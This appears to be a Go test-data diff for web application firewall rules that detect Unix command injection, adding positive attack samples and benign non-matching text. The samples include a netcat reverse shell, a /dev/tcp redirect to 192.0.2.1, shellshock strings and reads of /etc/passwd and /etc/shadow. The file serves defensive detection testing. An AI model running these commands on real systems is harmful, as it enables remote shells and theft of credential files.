@@ -13,7 +13,7 @@ var commands = map[int][]string{
 		"$(id)", "a$(cat /etc/hosts)b", "x`id`", "<(cat a)", ">(tee b)", "${IFS}", "a${x:-id}b", "${x#y}", "$[3*4]", "$[]", "/etc/pa[s]swd", "/b[i]n/sh",
 		"/usr/[b]in/env", "/[e]tc/hosts", "$(whoami$())", "We had $(uname -a) for lunch.", "%24(id)", "&#36;(id)", `\u0024(id)`, "${!x}",
 	},
-	932160: {"cat /etc/passwd", "/bin/ab", "bin/visudo", "$SHELL -c x", "see /etc/shadow", "a;cat$IFS/etc/hosts", "/usr/bin/perl -e 1"},
+	932160: {"cat /etc/passwd", "/bin/ab", "bin/visudo", "$SHELL -c x", "see /etc/shadow", `run("/usr/bin/ab")`, "we read of nc -lp 1 -e /bin/sh there", "x >& /dev/tcp/192.0.2.1/9", "cmd=/bin/unxz -c a", "a;cat$IFS/etc/hosts", "/usr/bin/perl -e 1"},
 	932171: {"() { :;}; id"},
 	932230: {"() { :;}; /bin/sh -c id", ";gcc12.2<<<x", ";c89 -wrapper sh,-c,id .", "time sh -c id", "nohup sh -c id", ";env --version", "a; sh -c 'id'", "sudo sh -c id"},
 	932235: {
@@ -39,10 +39,10 @@ var commands = map[int][]string{
 var texts = map[int][]string{
 	932130: {
 		"https://ads.example/s?id=${UUID}&x=1", "Hello ${name}, your order is on its way.", "[$LATEST]", "pages/[...slug]/index", "/html/body[1]/div[2]/a[3]",
-		`id("menu")/div[1]/p[2]`, "Jane Roe <jane@mail.example> (https://roe.example)", "<b>The list</b> (click to show)", "$(this).hide() is how the page hides its menu",
+		"news /n[y]uz/ noun", "/ny[oo]/, /n[e]w/ or /n[y]oo'li:n/", "/sync/https://a.example/p?x=1&id=${uuid}", `id("menu")/div[1]/p[2]`, "Jane Roe <jane@mail.example> (https://roe.example)", "<b>The list</b> (click to show)", "$(this).hide() is how the page hides its menu",
 		"The value `count` is a number in all of our reports.", "#{name} and ${name} are the same in our template",
 	},
-	932160: {"node node_modules/.bin/tool .", "./node_modules/.bin/lint .", "#!/usr/bin/env node\nlet a", "all of it goes to /dev/null"},
+	932160: {"node node_modules/.bin/tool .", "./node_modules/.bin/lint .", "#!/usr/bin/env node\nlet a", "all of it goes to /dev/null", "It was in /usr/bin/perf before.", "Read about /bin/ps (or top).", "-rwxr-xr-x 1 root root 10 Jun 7 /usr/bin/perf", "see http://a.example/cgi-bin/find here"},
 	932230: {"sudo: ana : USER=root ; COMMAND=/bin/sh -c echo done; LANG=en", "How are you? Time to talk with him. Say: hello", "Is it time to go?\nTime flies."},
 	932235: {
 		"Hi,\nnice work yesterday!", "\nfind attached the minutes", "It's time to find a new job; time flies", "update & confirm (order", "Count (Dracula)", "seats 6; select colours only",
